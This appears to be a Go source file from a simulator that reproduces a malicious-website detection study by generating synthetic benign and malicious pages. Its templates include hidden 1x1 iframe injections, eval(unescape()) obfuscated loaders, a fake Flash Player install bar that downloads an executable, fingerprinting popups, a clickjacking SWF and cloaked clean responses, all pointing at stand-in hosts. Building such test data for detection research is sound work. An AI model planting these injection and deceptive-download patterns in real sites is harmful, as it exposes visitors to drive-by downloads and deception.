@@ -1,0 +1,211 @@
+package web
+
+import (
+	"fmt"
+	"strings"
+
+	"repro/internal/jsengine"
+	"repro/internal/simrand"
+	"repro/internal/swf"
+)
+
+// renderCtx carries the shared infrastructure hostnames page renderers
+// reference.
+type renderCtx struct {
+	// payloadHost serves the content hidden iframes load (qservz analog).
+	payloadHost string
+	// adHost is the bogus ad network (AdHitz analog).
+	adHost string
+	// dropHost serves deceptive executables (yupfiles analog).
+	dropHost string
+	// swfHost is the Flash CDN (static.yupfiles analog).
+	swfHost string
+	// analyticsHost is the benign analytics endpoint (§V-E FP shape).
+	analyticsHost string
+	// oauthHost is the benign OAuth relay endpoint (§V-E FP shape).
+	oauthHost string
+}
+
+// renderBenignPage builds an ordinary content page. A slice of benign
+// sites carries the analytics loader or OAuth relay iframe — the shapes
+// behind the paper's false-positive case studies.
+func renderBenignPage(s *Site, path string, rng *simrand.Source) string {
+	var b strings.Builder
+	title := fmt.Sprintf("%s — %s", strings.Title(strings.SplitN(s.Host, ".", 2)[0]), s.Category)
+	b.WriteString("<html><head><title>")
+	b.WriteString(title)
+	b.WriteString("</title></head><body>\n")
+	b.WriteString(fmt.Sprintf("<h1>%s</h1>\n", title))
+	paras := rng.Range(2, 5)
+	for i := 0; i < paras; i++ {
+		b.WriteString("<p>")
+		words := rng.Range(20, 60)
+		for w := 0; w < words; w++ {
+			b.WriteString(rng.Word(3, 9))
+			b.WriteByte(' ')
+		}
+		b.WriteString("</p>\n")
+	}
+	// Same-site navigation links.
+	for _, p := range s.Pages {
+		if p != path {
+			b.WriteString(fmt.Sprintf("<a href=\"http://%s%s\">%s</a>\n", s.Host, p, strings.TrimPrefix(p, "/")))
+		}
+	}
+	if s.HasAnalytics {
+		b.WriteString(analyticsSnippet(s))
+	}
+	if s.HasOAuthFrame {
+		b.WriteString(oauthRelaySnippet(s))
+	}
+	if s.HasBrochure {
+		b.WriteString(fmt.Sprintf("<a href=\"http://%s/brochure.pdf\">Download our brochure (PDF)</a>\n", s.Host))
+	}
+	b.WriteString("</body></html>\n")
+	return b.String()
+}
+
+// analyticsSnippet is the Google-Analytics-loader shape of §V-E Code 8.
+func analyticsSnippet(s *Site) string {
+	return `<script>
+(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.simalytics.net/analytics.js','ga');
+ga('create', 'UA-` + fmt.Sprintf("%08d", len(s.Host)*1234567%99999999) + `-1', 'auto');
+ga('send', 'pageview');
+</script>
+`
+}
+
+// oauthRelaySnippet is the 1x1 offscreen OAuth relay of §V-E Code 7.
+func oauthRelaySnippet(s *Site) string {
+	return `<iframe name="oauth2relay503410543" id="oauth2relay503410543"
+ src="https://accounts.google.sim/o/oauth2/postmessageRelay?parent=http%3A%2F%2F` + s.Host + `#rpctoken=1510319259"
+ tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>
+`
+}
+
+// renderBlacklistedPage builds a page on a blacklisted domain: ordinary
+// content that monetizes through a bogus ad network. Detection rests on
+// the domain's blacklist presence, not page structure.
+func renderBlacklistedPage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
+	base := renderBenignPage(s, path, rng)
+	ad := fmt.Sprintf(`<div class="ad-slot"><iframe src="http://%s/banner?zone=%s&pub=%s" width="468" height="60"></iframe></div>
+<!-- %s -->
+`, ctx.adHost, rng.Token(6), s.Host, s.FamilyToken)
+	return strings.Replace(base, "</body>", ad+"</body>", 1)
+}
+
+// renderJSMalwarePage builds a MaliciousJS page in the site's variant.
+func renderJSMalwarePage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
+	base := renderBenignPage(s, path, rng)
+	var payload string
+	switch s.Variant {
+	case JSTinyIframe:
+		payload = fmt.Sprintf(`<iframe align="right" height="1" name="cwindow" scrolling="NO" src="http://%s/t.php?c=%s" style="border:0 solid #990000;" width="1"></iframe>
+<!-- %s -->
+`, ctx.payloadHost, rng.Token(10), s.FamilyToken)
+	case JSInvisibleIframe:
+		payload = fmt.Sprintf(`<iframe src="https://%s/a.php?t=29&o=pix&f=%s&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
+<!-- %s -->
+`, ctx.payloadHost, rng.Token(12), s.FamilyToken)
+	case JSObfuscatedInjection:
+		inner := fmt.Sprintf(`document.write('<iframe allowtransparency="true" scrolling="no" frameborder="0" border="0" width="1" height="1" marginwidth="0" marginheight="0" src="http://%s/ai.aspx?tc=%s&url=http://%s/1x1.gif"></iframe>');`,
+			ctx.payloadHost, rng.HexToken(32), ctx.payloadHost)
+		layers := rng.Range(1, 3)
+		obf := inner
+		for i := 0; i < layers; i++ {
+			obf = `eval(unescape("` + jsengine.Escape(obf) + `"));`
+		}
+		payload = "<script>var " + s.FamilyToken + " = 1;\n" + obf + "</script>\n"
+	case JSDeceptiveDownload:
+		payload = deceptiveDownloadMarkup(s, rng, ctx)
+	case JSFingerprinting:
+		payload = fmt.Sprintf(`<script>
+var %s = navigator.userAgent + "|" + screen.width + "x" + screen.height;
+document.addEventListener("mousemove", function() {
+  window.open("http://%s/pop?sid=%s");
+});
+</script>
+`, s.FamilyToken, ctx.adHost, rng.Token(8))
+	default:
+		payload = "<!-- " + s.FamilyToken + " -->"
+	}
+	return strings.Replace(base, "</body>", payload+"</body>", 1)
+}
+
+// deceptiveDownloadMarkup is the §V-B fake install prompt: bait text plus
+// an anchor that downloads Flash-Player.exe from the dropper host. A
+// fraction of these pages also link the dropper's exploit document (an
+// auto-open-JavaScript PDF).
+func deceptiveDownloadMarkup(s *Site, rng *simrand.Source, ctx renderCtx) string {
+	pdfLink := ""
+	if rng.Bool(0.4) {
+		pdfLink = fmt.Sprintf("<a href=\"http://%s/doc/invoice-%s.pdf\">View invoice (PDF)</a>\n", ctx.dropHost, rng.Token(6))
+	}
+	id := rng.HexToken(16)
+	return pdfLink + fmt.Sprintf(`<div id="dm_topbar">
+<a href="data:text/html,%%3Chtml%%3E%%3Cscript%%3Ewindow.location.href%%3D%%22http%%3A%%2F%%2F%s%%2Fc%%3Fx%%3D%s%%26downloadAs%%3DFlash-Player.exe%%22%%3B%%3C/script%%3E"
+ data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1" target="_blank"
+ data-dm-href="http://%s/downloader?id=%s" data-dm-filename="null" class="download_link">
+<div id="dm_topbar_block">
+<span id="dm_topbar_text">A pagina necessita do plugin para continuar.</span>
+<span id="dm_topbar_link">Instalar plug-in</span>
+</div></a></div>
+<!-- %s -->
+`, ctx.dropHost, rng.HexToken(24), ctx.dropHost, id, s.FamilyToken)
+}
+
+// renderFlashMalwarePage embeds the AdFlash-style movie from the SWF CDN.
+func renderFlashMalwarePage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
+	base := renderBenignPage(s, path, rng)
+	n := rng.Range(10, 99)
+	embed := fmt.Sprintf(`<embed src="http://%s/swf/AdFlash%d.swf" type="application/x-shockwave-flash" width="100%%" height="100%%" wmode="transparent"></embed>
+<!-- %s -->
+`, ctx.swfHost, n, s.FamilyToken)
+	return strings.Replace(base, "</body>", embed+"</body>", 1)
+}
+
+// renderMiscMalwarePage builds a page with family markers but no
+// structural category evidence: the Miscellaneous bucket.
+func renderMiscMalwarePage(s *Site, path string, rng *simrand.Source) string {
+	base := renderBenignPage(s, path, rng)
+	marker := fmt.Sprintf("<script>var %s = \"%s\";</script>\n", s.FamilyToken, rng.Token(16))
+	return strings.Replace(base, "</body>", marker+"</body>", 1)
+}
+
+// renderLandingPage is the final page of a redirect chain: an offerwall
+// carrying the family token.
+func renderLandingPage(s *Site, rng *simrand.Source, ctx renderCtx) string {
+	return fmt.Sprintf(`<html><head><title>Special Offer</title></head><body>
+<h1>Your download is ready</h1>
+<a href="http://%s/get?f=installer.exe">Download now</a>
+<script>var %s = 1;</script>
+</body></html>
+`, ctx.dropHost, s.FamilyToken)
+}
+
+// buildAdFlashMovie assembles the §V-D movie served by the SWF CDN.
+func buildAdFlashMovie(rng *simrand.Source) []byte {
+	sb := swf.NewScript().Obfuscate(byte(rng.Range(1, 255)))
+	handler := sb.NewSegment()
+	sb.AllowDomain(0, "*")
+	sb.SetScaleMode(0, "EXACT_FIT")
+	sb.Listen(0, "mouseUp", handler)
+	sb.ExternalCall(handler, "AdFlash.onClick")
+	sb.DisplayState(handler, "fullScreen")
+	sb.ExternalCall(handler, "window."+rng.LowerToken(6))
+	sb.DisplayState(handler, "normal")
+	return swf.NewBuilder(800, 600).
+		Meta("name", fmt.Sprintf("AdFlash%d", rng.Range(10, 99))).
+		AddClickArea(swf.ClickArea{X: 0, Y: 0, W: 800, H: 600, Alpha: 0}).
+		Script(sb).
+		Encode()
+}
+
+// cleanVariant strips malicious payloads for cloaked responses: the same
+// page rendered as if it were benign.
+func cleanVariant(s *Site, path string, rng *simrand.Source) string {
+	clone := *s
+	clone.HasAnalytics = false
+	clone.HasOAuthFrame = false
+	return renderBenignPage(&clone, path, rng)
+}
